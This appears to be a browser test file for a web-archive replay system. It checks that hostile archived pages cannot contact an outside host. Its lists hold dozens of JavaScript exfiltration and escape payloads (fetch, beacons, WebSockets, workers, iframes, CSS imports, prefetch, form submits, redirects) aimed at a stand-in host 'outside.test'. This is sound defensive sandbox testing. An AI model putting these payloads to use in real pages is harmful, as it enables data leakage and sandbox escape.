#!/usr/bin/env node
// Hostile stored pages on an origin of their own: nothing that they try leaves the archive.
import {readFileSync} from 'node:fs';
import {join} from 'node:path';
import {PATIENCE, expect, run, serveFiles, test, until} from './browser.mjs';
import {A, TIME, at, replayed} from './replay.mjs';

// What a hostile page tries, with the functions of ours and with those of a window that they are not in (w).
const STAYING = [
  'fetch(out, {mode: "no-cors"})', 'w.fetch(out, {mode: "no-cors"})', 'w.navigator.sendBeacon(out, "x")', 'new w.EventSource(out)',
  'new w.WebSocket(out.replace("http", "ws"))', 'new WebSocket(out.replace("http", "ws"))',
  '{ const x = new w.XMLHttpRequest(); x.open("GET", out, false); x.send() }', 'w.eval(`import("${out}x.js")`)', 'new w.Image().src = out',
  'new w.Worker(URL.createObjectURL(new Blob([`importScripts("${out}")`])))',
  'new w.Worker(URL.createObjectURL(new Blob([`fetch("${out}", {mode: "no-cors"})`])))',
  'new w.Worker(`data:text/javascript,fetch("${out}", {mode: "no-cors"})`)', 'new w.SharedWorker(out)',
  'new w.Worker(URL.createObjectURL(new Blob([`import "${out}x.js"`])), {type: "module"})',
  'new w.Audio(out).play()', 'make("video", {src: out, poster: out})', 'make("script", {src: out})', 'make("script", {src: out, type: "module"})',
  'make("iframe", {src: out})', 'make("embed", {src: out})', 'make("object", {data: out})', 'make("iframe", {srcdoc: `<img src="${out}"><iframe src="${out}">`})',
  'make("iframe", {src: `data:text/html,<img src="${out}"><script>location="${out}"<\\/script>`})',
  'make("iframe", {src: URL.createObjectURL(new Blob([`<img src="${out}"><script>location="${out}"<\\/script>`], {type: "text/html"}))})',
  'make("iframe", {src: `javascript:location="${out}"`})',
  ...['stylesheet', 'icon', 'manifest', 'prefetch', 'prerender', 'preload', 'modulepreload', 'alternate stylesheet', 'import']
    .map(rel => `make("link", {rel: "${rel}", href: out, as: "image"})`),
  'make("script", {type: "speculationrules", textContent: JSON.stringify({prefetch: [{urls: [out], eagerness: "immediate"}], prerender: [{urls: [out]}]})})',
  'make("style", {textContent: `@import "${out}"; @font-face{font-family:F;src:url("${out}")} body{font-family:F;background:url("${out}");cursor:url("${out}"),auto}`})',
  'new w.FontFace("G", `url(${out})`).load()', 'w.document.write(`<script src="${out}"><\\/script><img src="${out}">`)',
  'w.navigator.serviceWorker.register("/worker.js")', 'new w.AudioContext().audioWorklet.addModule(out)',
  'new w.PaymentRequest([{supportedMethods: out}], {total: {label: "", amount: {currency: "EUR", value: "1"}}}).show()',
  'w.navigator.credentials.get({identity: {providers: [{configURL: out, clientId: "1"}]}})', 'w.fetchLater(out)',
  'make("a", {href: "#x", ping: out}).click()', 'make("img", {attributionSrc: out})', 'history.pushState(0, "", out)',
  'document.body.insertAdjacentHTML("beforeend", `<svg><use href="${out}#a"/><image href="${out}"/></svg><math><mi href="${out}">x</mi></math>`)',
  'make("video", {}).append(make("track", {src: out, default: true}))', 'document.cookie = `x=1; domain=localhost`'];
const LEAVING = ['location = out', 'top.location = out', 'parent.location = out', 'w.open(out)', 'window.open(out, "_top")',
  'w.open(out, "x", "noopener")', 'make("a", {href: out}).click()', 'make("a", {href: out, target: "_top"}).click()',
  'make("a", {href: out, target: "_blank"}).click()', 'make("a", {href: out, target: "_blank", rel: "noopener"}).dispatchEvent(new MouseEvent("click", {ctrlKey: true}))',
  'make("a", {href: out, download: "x"}).click()', 'make("form", {action: out}).submit()', 'make("form", {action: out, method: "post", target: "_blank"}).submit()',
  'make("form", {action: out, target: "_top"}).submit()', 'make("meta", {httpEquiv: "refresh", content: `0;url=${out}`})', 'w.parent.navigation.navigate(out)',
  'location = URL.createObjectURL(new Blob([`<script>location="${out}"<\\/script>`], {type: "text/html"}))',
  'location = `data:text/html,<script>location="${out}"<\\/script>`', 'location = `javascript:"<img src=${out}>"`',
  'document.open(), document.write(`<base href="${out}"><img src=x><meta http-equiv=refresh content="0;url=${out}">`)'];

// These are refused as well, and so are frames, but Chromium opens a connection before it asks the policy.
const KNOCKING = ['w.location.replace(out)', '{ const f = make("iframe", {}); f.contentWindow.location = out }', 'make("link", {rel: "preconnect", href: out})'];

const CLICK_MS = 10000;

// What the network log of a browser says: names that were looked up, and addresses that were connected to.
function networkOf(file) {
  const text = readFileSync(file, 'utf8'); // its end is missing if the browser was in a hurry
  const {constants, events} = JSON.parse(/\]\s*[,}]/.test(text.slice(-200)) ? text : `${text.slice(0, text.lastIndexOf('},\n') + 1)}]}`);
  const kind = name => constants.logEventTypes[name];
  const names = events.filter(e => e.type === kind('HOST_RESOLVER_MANAGER_REQUEST') && e.params?.host).map(e => e.params.host);
  const sockets = events.filter(e => [kind('TCP_CONNECT_ATTEMPT'), kind('UDP_CONNECT')].includes(e.type) && e.params?.address).map(e => e.params.address);
  return {names: [...new Set(names)], sockets: [...new Set(sockets)]};
}

test('a hostile page cannot leave, whatever it tries', async ({folder, later}) => {
  const {origin: outside, requests} = await serveFiles({}, later), {origin: knocked, requests: knocks} = await serveFiles({}, later);
  const names_of = to => [`${to}/`, `${to.replace('127.0.0.1', 'outside.test')}/`];
  const front = `<!DOCTYPE html><body><iframe id=f></iframe><script>const w = document.getElementById('f').contentWindow;
    const make = (tag, what) => { const e = w.document.createElement(tag); Object.assign(e, what); document.body.append(e); return e; };
    const go = () => { for (const out of outs) for (const f of ways) try { Promise.resolve(f(out)).catch(() => 0); } catch (e) { } };`;
  const page_of = (ways, to) => `${front}const outs = ${JSON.stringify(names_of(to))}, ways = [${ways.map(way => `out => { ${/^[{]/.test(way) ? way : `return ${way}`} }`).join(',\n')}];
    onclick = event => { if (event.isTrusted) go(); };
    console.log('ran'); go();</script><p>hostile</p>`;
  const isFrame = way => way.includes('"iframe"');
  const merged = [[...KNOCKING, ...STAYING.filter(isFrame)], STAYING.filter(way => !isFrame(way)), ...LEAVING.map(way => [way])];
  const {origin, base} = await replayed(folder, later, [at(`${A}/worker.js`, '', 'text/javascript'),
    ...merged.map((ways, i) => at(`${A}/${i}`, page_of(ways, i ? outside : knocked)))]);
  const {chromium} = await import('playwright-core');
  const log = join(folder, 'net.json');
  const browser = await chromium.launch({executablePath: process.env.CHROMIUM || '/usr/bin/chromium', args: ['--no-sandbox', '--disable-gpu',
    '--disable-dev-shm-usage', '--host-resolver-rules=MAP outside.test 127.0.0.1', `--log-net-log=${log}`, '--disable-component-update', '--disable-background-networking']});
  later(() => browser.close());
  const context = await browser.newContext();
  async function visit(page, i) {
    const said = [];
    page.removeAllListeners('console');
    page.on('console', message => said.push(message.text()));
    await page.goto(`${origin}/web/${TIME}/${A}/${i}`, {waitUntil: 'commit', timeout: PATIENCE});
    await until(`page ${i}: ${merged[i][0]}`, () => said.includes('ran'));
    // A page that is being replaced, or that shows a dialog of the browser, may never say that it got the click.
    await Promise.race([page.mouse.click(300, 500), new Promise(done => setTimeout(done, CLICK_MS))]);
    await new Promise(done => setTimeout(done, i > 1 ? 200 : 1000));
    expect(page.url().startsWith(`${origin}/web/`), `${merged[i][0]} leads to ${page.url()}`);
  }
  // Several at once, each in a tab of its own; what they open is looked at in the end.
  const todo = [...merged.keys()];
  await Promise.all(Array.from({length: 4}, async () => {
    const page = await context.newPage();
    page.on('dialog', dialog => dialog.dismiss());
    while (todo.length) await visit(page, todo.shift());
  }));
  for (const other of context.pages()) {
    await other.waitForURL(/^http/, {waitUntil: 'commit'});
    expect(other.url().startsWith(`${origin}/web/`), `something opens ${other.url()}`);
  }
  await browser.close();
  expect(requests.length + knocks.length === 0, `the outside got ${JSON.stringify([requests, knocks])}`);
  const {names, sockets} = networkOf(log), ports = [origin, `http://${base}`, knocked].map(o => new URL(o).port);
  // The browser itself asks for its maker's services; nothing may look for what the pages know.
  const strange = [...names.filter(name => name.includes(`outside.test:${new URL(outside).port}`)), ...sockets.filter(to => /127\.0\.0\.1|::1/.test(to) &&
    !ports.includes(to.split(':').pop()))];
  expect(sockets.some(to => ports.includes(to.split(':').pop())), 'the log of the network has no connections');
  expect(strange.length === 0, `the browser looked for ${strange}; the outside is ${outside}, the ports are ${ports}`);
});

await run();
